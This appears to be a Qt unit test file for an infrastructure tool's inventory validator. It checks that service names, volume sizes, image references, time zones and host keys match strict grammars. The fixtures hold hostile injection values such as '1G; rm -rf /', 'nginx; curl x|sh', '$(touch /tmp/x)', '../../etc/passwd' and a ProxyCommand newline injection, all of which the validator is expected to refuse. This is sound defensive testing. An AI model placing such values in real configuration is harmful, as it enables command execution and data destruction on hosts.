#include "inventory/value_grammar.h"
#include "tests/support/inventory_fixture.h"

#include <QtTest>

using hive::ValueGrammar;
using Kind = hive::ValueGrammar::Kind;

// Names and values from the inventory are held to the grammar of what
// receives them, and a hostile one is refused at load time with its file,
// line and key — before any shell, configuration file or API path sees it.
class TestValueGrammar : public QObject
{
    Q_OBJECT

    static QString firstError(const hive::LoadedInventory &loaded, const QString &code)
    {
        for (const hive::Diagnostic &d : loaded.diagnostics.sorted()) {
            if (d.code == code)
                return d.format();
        }
        return QStringLiteral("(no %1 error among: %2)")
            .arg(code, loaded.diagnostics.isEmpty() ? QStringLiteral("none")
                                                    : loaded.diagnostics.sorted().first().format());
    }

private slots:
    void grammar_data()
    {
        QTest::addColumn<int>("kind");
        QTest::addColumn<QString>("text");
        QTest::addColumn<bool>("accepted");
        const auto row = [](const char *name, Kind kind, const char *text, bool ok) {
            QTest::newRow(name) << int(kind) << QString::fromUtf8(text) << ok;
        };
        row("fingerprint", Kind::SshFingerprint,
            "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU", true);
        row("fingerprint, md5", Kind::SshFingerprint, "MD5:16:27:ac:a5:76:28:2d:36", false);
        row("fingerprint too short", Kind::SshFingerprint, "SHA256:47DEQpj8HBSa", false);
        row("volume", Kind::DockerName, "pdns_data", true);
        row("volume with dots", Kind::DockerName, "web.v2_a-b", true);
        row("volume with a quote", Kind::DockerName, "w'$(touch /tmp/x)'", false);
        row("volume with ;", Kind::DockerName, "v;id", false);
        row("name starting with -", Kind::DockerName, "-rf", false);
        row("name of 64", Kind::DockerName, QByteArray(64, 'a').constData(), false);
        row("swarm service", Kind::SwarmName, "power_dns-2", true);
        row("swarm service with a dot", Kind::SwarmName, "web.v2", false);
        row("swarm service ending in -", Kind::SwarmName, "web-", false);
        row("swarm name of 64", Kind::SwarmName, QByteArray(64, 'a').constData(), false);
        row("trailing newline, service", Kind::SwarmName, "web\n", false);
        row("trailing newline, time zone", Kind::TimeZone, "Asia/Tokyo\n", false);
        row("trailing newline, group", Kind::PosixName, "ops\n", false);
        row("trailing newline, hive name", Kind::DnsName, "a.jp\n", false);
        row("trailing newline, size", Kind::Size, "1G\n", false);
        row("trailing newline, image", Kind::ImageReference, "nginx\n", false);
        row("hive name", Kind::DnsName, "pdns.example.jp", true);
        row("hive name, one label", Kind::DnsName, "t", true);
        row("hive name with newline", Kind::DnsName, "a.jp\nProxyCommand sh", false);
        row("hive name with space", Kind::DnsName, "a b.jp", false);
        row("hive name, label ends with -", Kind::DnsName, "a-.jp", false);
        row("user", Kind::PosixName, "alice", true);
        row("user _svc", Kind::PosixName, "_svc-1", true);
        row("user with $()", Kind::PosixName, "a$(id)", false);
        row("user with ..", Kind::PosixName, "../root", false);
        row("size", Kind::Size, "1G", true);
        row("size 1.5GiB", Kind::Size, "1.5GiB", true);
        row("size in bytes", Kind::Size, "4096", true);
        row("size with shell", Kind::Size, "1G; rm -rf /", false);
        row("size with option", Kind::Size, "100M -n x", false);
        row("time zone", Kind::TimeZone, "Asia/Tokyo", true);
        row("time zone, 3 parts", Kind::TimeZone, "America/Argentina/Buenos_Aires", true);
        row("time zone Etc/GMT+9", Kind::TimeZone, "Etc/GMT+9", true);
        row("time zone with ]", Kind::TimeZone, "UTC ]; id; [", false);
        row("time zone ../", Kind::TimeZone, "../../etc/passwd", false);
        row("locale", Kind::Locale, "ja_JP.UTF-8", true);
        row("locale C.UTF-8", Kind::Locale, "C.UTF-8", true);
        row("locale with quote", Kind::Locale, "ja_JP.UTF-8 \\)/e'", false);
        row("image", Kind::ImageReference, "nginx:1.25", true);
        row("image with registry", Kind::ImageReference, "registry.example.jp:5000/web/app:latest",
            true);
        row("image with digest", Kind::ImageReference,
            "alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", true);
        row("image upper case", Kind::ImageReference, "Nginx", false);
        row("image with space", Kind::ImageReference, "nginx; id", false);
        row("image unterminated", Kind::ImageReference, "\"nginx:1", false);
        row("interface", Kind::InterfaceName, "ens5", true);
        row("interface with newline", Kind::InterfaceName, "eth1\nup id", false);
    }
    void grammar()
    {
        QFETCH(int, kind);
        QFETCH(QString, text);
        QFETCH(bool, accepted);
        QCOMPARE(ValueGrammar::matches(Kind(kind), text), accepted);
    }

    void jinjaIsLeftForLater()
    {
        QVERIFY(ValueGrammar::holdsJinja(QStringLiteral("{{ registry }}/web")));
        QVERIFY(ValueGrammar::holdsJinja(QStringLiteral("{% if x %}a{% endif %}")));
        const hive::LoadedInventory loaded =
            InventoryFixture()
                .file(QStringLiteral("hive.yml"), InventoryFixture::minimalHive())
                .file(QStringLiteral("services.yml"),
                      "plugin: hive_services\nservices:\n  web:\n    image: \"{{ web_image }}\"\n")
                .groupVars(QStringLiteral("all"), "hive_timezone: \"{{ tz }}\"\n")
                .load();
        QVERIFY2(loaded.ok(), qPrintable(loaded.diagnostics.isEmpty()
                                             ? QString()
                                             : loaded.diagnostics.sorted().first().format()));
    }

    void jinjaHidesNothing()
    {
        // Around an expression the grammar still holds; in a name nothing is rendered.
        QCOMPARE(ValueGrammar::withoutJinja(QStringLiteral("{{ registry }}/web:{{ tag }}"),
                                            QLatin1Char('0')),
                 QStringLiteral("0/web:0"));
        const hive::LoadedInventory loaded =
            InventoryFixture()
                .file(QStringLiteral("hive.yml"), InventoryFixture::minimalHive())
                .file(QStringLiteral("services.yml"),
                      "plugin: hive_services\nservices:\n"
                      "  \"{{x}}w'$(touch /tmp/x)'\":\n    image: nginx\n"
                      "  kv:\n    image: \"{{ registry }}/kv:{{ tag }}\"\n    volumes:\n"
                      "    - source: kv_data\n      target: /data\n"
                      "      drbd: {fstype: xfs, size: \"{{ 1 }}G; touch /tmp/pwn #\"}\n")
                .load();
        QStringList refused;
        for (const hive::Diagnostic &d : loaded.diagnostics.sorted()) {
            if (d.code == QLatin1String("bad-name"))
                refused << QString::number(d.mark.line);
        }
        QCOMPARE(refused, (QStringList{QStringLiteral("3"), QStringLiteral("10")}));
    }

    void hostileServicesFileIsRefusedWithLineAndKey()
    {
        const hive::LoadedInventory loaded =
            InventoryFixture()
                .file(QStringLiteral("hive.yml"), InventoryFixture::minimalHive())
                .file(QStringLiteral("services.yml"), "plugin: hive_services\n"
                                                      "services:\n"
                                                      "  \"w'$(touch /tmp/x)'\":\n"
                                                      "    image: nginx\n"
                                                      "  db:\n"
                                                      "    image: mariadb:10\n"
                                                      "    volumes:\n"
                                                      "    - source: \"v;id\"\n"
                                                      "      target: /var/lib/mysql\n"
                                                      "  kv:\n"
                                                      "    image: redis\n"
                                                      "    volumes:\n"
                                                      "    - source: kv_data\n"
                                                      "      target: /data\n"
                                                      "      drbd:\n"
                                                      "        fstype: xfs\n"
                                                      "        size: \"1G; rm -rf /\"\n"
                                                      "  app:\n"
                                                      "    image: \"nginx; curl x|sh\"\n"
                                                      "networks:\n"
                                                      "  \"net$(id)\": {}\n")
                .load();
        QVERIFY(!loaded.ok());
        QStringList lines;
        for (const hive::Diagnostic &d : loaded.diagnostics.sorted()) {
            if (d.code == QLatin1String("bad-name"))
                lines << d.format();
        }
        QCOMPARE(lines.size(), 5);
        QVERIFY2(lines.at(0).startsWith(QStringLiteral("inventory/services.yml:3:")) &&
                     lines.at(0).contains(QStringLiteral("service name 'w'$(touch /tmp/x)''")),
                 qPrintable(lines.at(0)));
        QVERIFY2(lines.at(1).startsWith(QStringLiteral("inventory/services.yml:8:")) &&
                     lines.at(1).contains(QStringLiteral("[service db, key source]")),
                 qPrintable(lines.at(1)));
        QVERIFY2(lines.at(2).startsWith(QStringLiteral("inventory/services.yml:17:")) &&
                     lines.at(2).contains(QStringLiteral("[service kv, key size]")),
                 qPrintable(lines.at(2)));
        QVERIFY2(lines.at(3).startsWith(QStringLiteral("inventory/services.yml:19:")) &&
                     lines.at(3).contains(QStringLiteral("[service app, key image]")),
                 qPrintable(lines.at(3)));
        QVERIFY2(lines.at(4).startsWith(QStringLiteral("inventory/services.yml:21:")) &&
                     lines.at(4).contains(QStringLiteral("network name")),
                 qPrintable(lines.at(4)));
    }

    void hostileHiveNameIsRefused()
    {
        const hive::LoadedInventory loaded =
            InventoryFixture()
                .file(QStringLiteral("hive.yml"),
                      "plugin: hive_inventory\n"
                      "name: \"a.jp\\n  ProxyCommand touch /tmp/x\"\n"
                      "stages:\n  private:\n    provider: docker\n    cidr: 192.168.0.0/24\n")
                .load();
        const QString e = firstError(loaded, QStringLiteral("bad-name"));
        QVERIFY2(e.startsWith(QStringLiteral("inventory/hive.yml:2:")) &&
                     e.contains(QStringLiteral("[key name]")) &&
                     e.contains(QStringLiteral("a.jp\\n  ProxyCommand")),
                 qPrintable(e));
    }

    void pinnedHostKeysAreAddressesAndFingerprints()
    {
        const hive::LoadedInventory loaded =
            InventoryFixture()
                .file(QStringLiteral("hive.yml"),
                      "plugin: hive_inventory\n"
                      "name: a.jp\n"
                      "stages:\n  staging:\n    provider: prepared\n    cidr: 192.168.0.0/24\n"
                      "    ip_address_list: [192.168.0.4, 192.168.0.5, 192.168.0.6]\n"
                      "    host_keys:\n"
                      "      192.168.0.4: SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU\n"
                      "      p-hive1: SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU\n"
                      "      192.168.0.6: [SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU, "
                      "\"x; reboot\"]\n"
                      "      192.168.0.9: SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU\n")
                .load();
        const QString address = firstError(loaded, QStringLiteral("bad-value"));
        QVERIFY2(address.startsWith(QStringLiteral("inventory/hive.yml:10:")) &&
                     address.contains(QStringLiteral("p-hive1")),
                 qPrintable(address));
        const QString print = firstError(loaded, QStringLiteral("bad-name"));
        QVERIFY2(print.startsWith(QStringLiteral("inventory/hive.yml:11:")) &&
                     print.contains(QStringLiteral("x; reboot")) &&
                     print.contains(QStringLiteral("SHA256:")),
                 qPrintable(print));
        // A pin for an address no host has would never be used: said so.
        const QString unused = firstError(loaded, QStringLiteral("unused-pin"));
        QVERIFY2(unused.startsWith(QStringLiteral("inventory/hive.yml:12:")) &&
                     unused.contains(QStringLiteral("192.168.0.9")) &&
                     unused.contains(QStringLiteral("192.168.0.5")),
                 qPrintable(unused));
    }

    void hostileHostVariablesAreRefused()
    {
        const hive::LoadedInventory loaded =
            InventoryFixture()
                .file(QStringLiteral("hive.yml"), InventoryFixture::minimalHive())
                .groupVars(QStringLiteral("all"), "hive_timezone: \"UTC ]; touch /tmp/x; [\"\n"
                                                  "hive_locale: \"ja_JP.UTF-8 \\\\)/e'\"\n"
                                                  "hive_internal_net_if: \"eth1\\nup id\"\n"
                                                  "hive_safe_sshd_port: \"22; id\"\n"
                                                  "hive_user_groups:\n"
                                                  "  \"adm;id\": {gid: 2000}\n"
                                                  "hive_users:\n"
                                                  "  \"../root\": {uid: 2001, group: 2000}\n"
                                                  "  bob: {uid: \"2002 -o\", group: \"x y\"}\n")
                .load();
        QStringList keys;
        for (const hive::Diagnostic &d : loaded.diagnostics.sorted()) {
            QVERIFY2(d.mark.file == QLatin1String("inventory/group_vars/all.yml"),
                     qPrintable(d.format()));
            keys << QStringLiteral("%1:%2").arg(d.key).arg(d.mark.line);
        }
        QCOMPARE(keys,
                 (QStringList{QStringLiteral("hive_timezone:1"), QStringLiteral("hive_locale:2"),
                              QStringLiteral("hive_internal_net_if:3"),
                              QStringLiteral("hive_safe_sshd_port:4"),
                              QStringLiteral("hive_user_groups:6"), QStringLiteral("hive_users:8"),
                              QStringLiteral("hive_users:9"), QStringLiteral("hive_users:9")}));
    }

    void ordinaryProjectsStayValid()
    {
        const hive::LoadedInventory loaded =
            InventoryFixture()
                .file(QStringLiteral("hive.yml"), InventoryFixture::minimalHive())
                .file(QStringLiteral("services.yml"),
                      "plugin: hive_services\nservices:\n"
                      "  powerdns:\n    image:\n      from: python:3.9-bullseye\n      roles: [a]\n"
                      "    volumes:\n    - source: /var/run/docker.sock\n      target: /s\n"
                      "      type: bind\n"
                      "    - source: pdns_data\n      target: /d\n      drbd: {fstype: xfs, size: "
                      "500M}\n"
                      "networks:\n  pdns_net: {}\n")
                .groupVars(QStringLiteral("all"),
                           "hive_timezone: Asia/Tokyo\nhive_locale: ja_JP.UTF-8\n"
                           "hive_users:\n  alice: {uid: 2001, group: 2000}\n"
                           "hive_user_groups:\n  ops: {gid: 2000}\n")
                .load();
        QVERIFY2(loaded.ok(), qPrintable(loaded.diagnostics.isEmpty()
                                             ? QString()
                                             : loaded.diagnostics.sorted().first().format()));
    }
};

QTEST_GUILESS_MAIN(TestValueGrammar)
#include "tst_value_grammar.moc"
